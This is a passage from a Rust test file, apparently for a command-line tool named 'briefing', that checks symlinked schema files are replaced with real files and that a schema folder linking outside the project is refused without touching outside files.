    assert!(run.ok(), "{}", run.stderr);
    assert_eq!(read(&victim), "precious");
    assert_eq!(read(&root.join("content/claims.yaml")), claims);
    for name in ["claims", "timeline"] {
        let path = root.join(format!("schema/{name}.schema.json"));
        assert!(
            std::fs::symlink_metadata(&path).unwrap().is_file(),
            "{name}: still a link"
        );
        let schema: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
        assert!(schema["$schema"].is_string(), "{name}: {schema}");
    }

    // A schema folder that is a link out of the project is refused.
    std::fs::remove_dir_all(root.join("schema")).unwrap();
    symlink(outside.path(), root.join("schema")).unwrap();
    let run = briefing(root, &["schema"]);
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    assert!(
        run.stderr.contains("leads out of the project"),
        "{}",
        run.stderr
    );
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
}
